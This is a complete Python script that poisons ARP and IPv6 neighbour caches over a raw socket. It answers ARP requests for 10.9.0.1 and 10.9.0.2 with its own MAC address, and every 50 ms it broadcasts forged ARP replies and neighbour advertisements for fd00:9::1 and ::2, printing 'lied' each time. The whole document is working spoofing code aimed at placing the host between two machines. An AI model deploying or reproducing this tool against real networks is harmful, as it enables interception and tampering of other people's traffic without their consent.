"""Answers every question for 10.9.0.1 and 10.9.0.2 with its own station, and says so unasked, in ARP and
(for fd00:9::/64) in neighbour advertisements, until it is ended."""

import socket
import struct
import time

own = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
s.bind(("eth0", 0))
s.settimeout(0.02)
all4, all6 = bytes.fromhex("ffffffffffff"), bytes.fromhex("333300000001")


def arp(about, to):
    head = all4 + own + bytes.fromhex("0806") + struct.pack(">HHBBH", 1, 0x800, 6, 4, 2)
    s.send(head + own + socket.inet_aton(about) + all4 + socket.inet_aton(to))


def six(text):
    return socket.inet_pton(socket.AF_INET6, text)


def advertise(about):
    body = struct.pack(">BBHI", 136, 0, 0, 0x20000000) + six(about) + bytes([2, 1]) + own
    pseudo = six(about) + six("ff02::1") + struct.pack(">II", len(body), 58) + body
    total = sum(struct.unpack(">%dH" % (len(pseudo) // 2), pseudo))
    total = (total & 0xFFFF) + (total >> 16)
    total = (total & 0xFFFF) + (total >> 16)
    body = body[:2] + struct.pack(">H", ~total & 0xFFFF) + body[4:]
    head = struct.pack(">IHBB", 6 << 28, len(body), 58, 255) + six(about) + six("ff02::1")
    s.send(all6 + own + bytes.fromhex("86dd") + head + body)


last = 0
while True:
    try:
        frame = s.recv(2048)
        if frame[12:14] == bytes.fromhex("0806") and frame[20:22] == bytes([0, 1]):
            arp(socket.inet_ntoa(frame[38:42]), socket.inet_ntoa(frame[28:32]))
    except TimeoutError:
        pass
    if time.monotonic() > last + 0.05:
        last = time.monotonic()
        for a, b in (("10.9.0.1", "10.9.0.2"), ("10.9.0.2", "10.9.0.1")):
            arp(a, b)
        for a in ("fd00:9::1", "fd00:9::2"):
            advertise(a)
        print("lied", flush=True)
